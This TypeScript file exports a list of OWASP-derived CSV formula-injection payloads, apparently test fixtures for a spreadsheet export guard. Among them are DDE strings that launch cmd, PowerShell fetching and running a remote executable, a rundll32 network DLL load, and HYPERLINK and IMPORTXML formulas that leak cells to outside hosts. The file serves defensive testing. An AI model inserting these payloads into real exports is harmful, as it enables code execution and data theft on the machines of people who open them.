/**
 * OWASP's CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), and the
 * variants its guidance names: every character a formula can start with, a tab or a carriage
 * return before it, and separators and quotes that try to open a second cell. The first is the one
 * the issue found in a public export.
 */
export const FORMULA_PAYLOADS: readonly string[] = [
  "-2+3+cmd|' /C calc'!A0", // issue #21's: a description the former guard let through
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "+cmd|' /C calc'!A0",
  "-3+3+cmd|' /C calc'!D2",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
  '=IMPORTXML(CONCAT("http://some-server-with-log.evil?v=", CONCATENATE(A2:E2)), "//a")',
  '=1+2',
  '+1+2',
  '-1+2',
  '@1+2',
  '\t=1+2',
  '\r=1+2',
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
];
